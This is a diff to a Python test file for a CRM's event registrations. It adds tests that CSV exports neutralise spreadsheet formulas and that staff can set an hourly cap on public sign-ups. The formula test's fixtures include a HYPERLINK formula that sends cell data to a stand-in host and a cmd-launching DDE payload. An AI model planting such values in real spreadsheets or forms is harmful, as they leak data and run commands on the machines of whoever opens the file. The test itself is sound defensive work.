@@ -12,7 +12,13 @@ from sqlalchemy import select
 
 from crm.auth.models import Role, User
 from crm.events import services
-from crm.events.models import Event, EventStatus, Registration, RegistrationStatus
+from crm.events.models import (
+    DEFAULT_PUBLIC_REGISTRATIONS_PER_HOUR,
+    Event,
+    EventStatus,
+    Registration,
+    RegistrationStatus,
+)
 from crm.extensions import db
 from crm.leads.models import Stage
 from crm.mail.models import OutboxMessage
@@ -203,6 +209,22 @@ def test_attendees_export_as_csv(
     assert response.mimetype == "text/csv"
     assert rows[0]["name"] == "Lise Meitner"
     assert rows[0]["email"] == registration.email
+
+
+def test_the_attendees_export_defuses_formulas_whatever_the_separator(
+    staff_client: FlaskClient, event: Event, create_registration: Callable[..., Registration]
+) -> None:
+    create_registration(
+        event,
+        company_name='=HYPERLINK("evil.example?leak="&C2;"Open")',
+        position="@SUM(1+1)*cmd|' /C calc'!A0",
+        name="Eve; =1+2",
+    )
+    response = staff_client.get(f"/staff/events/{event.id}/attendees.csv")
+    [row] = list(csv.DictReader(io.StringIO(response.text)))
+    assert row["company"] == '\'=HYPERLINK("evil.example?leak="&C2;"Open")'
+    assert row["position"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
+    assert row["name"] == "Eve;' =1+2"
 
 
 def test_staff_add_a_registrant_by_hand(staff_client: FlaskClient, event: Event) -> None:
@@ -406,7 +428,7 @@ def test_staff_revoke_a_private_link_and_registering_again_mails_a_new_one(
     registration = create_registration(event, email="anna@isotopia.example")
     old_link = "/r/" + outbox()[0].text_body.split("/r/", 1)[1].split()[0]
     visitor = app.test_client()
-    assert visitor.get(old_link).status_code == 200
+    assert visitor.get(old_link).status_code == 303
 
     response = submit_form(
         staff_client,
@@ -430,7 +452,7 @@ def test_staff_revoke_a_private_link_and_registering_again_mails_a_new_one(
     db.session.commit()
     new_link = "/r/" + outbox()[-1].text_body.split("/r/", 1)[1].split()[0]
     assert new_link != old_link
-    assert visitor.get(new_link).status_code == 200
+    assert visitor.get(new_link).status_code == 303
 
 
 def test_viewers_cannot_revoke_a_private_link(
@@ -452,3 +474,33 @@ def test_viewers_cannot_revoke_a_private_link(
     assert response.status_code == 403
     db.session.refresh(registration)
     assert registration.manage_nonce == nonce
+
+
+def test_staff_raise_the_hourly_cap_on_public_registrations(
+    staff_client: FlaskClient, create_event: Callable[..., Event]
+) -> None:
+    event = create_event(slug="isotope-day")
+    assert event.public_registrations_per_hour == DEFAULT_PUBLIC_REGISTRATIONS_PER_HOUR
+    response = submit_form(
+        staff_client,
+        f"/staff/events/{event.id}/edit",
+        event_form(public_registrations_per_hour="500"),
+    )
+    assert response.status_code == 302
+    db.session.refresh(event)
+    assert event.public_registrations_per_hour == 500
+
+
+def test_a_negative_hourly_cap_is_refused(
+    staff_client: FlaskClient, create_event: Callable[..., Event]
+) -> None:
+    event = create_event(slug="isotope-day")
+    response = submit_form(
+        staff_client,
+        f"/staff/events/{event.id}/edit",
+        event_form(public_registrations_per_hour="-1"),
+    )
+    assert response.status_code == 422
+    assert 'id="public_registrations_per_hour-error"' in response.text
+    db.session.refresh(event)
+    assert event.public_registrations_per_hour == DEFAULT_PUBLIC_REGISTRATIONS_PER_HOUR
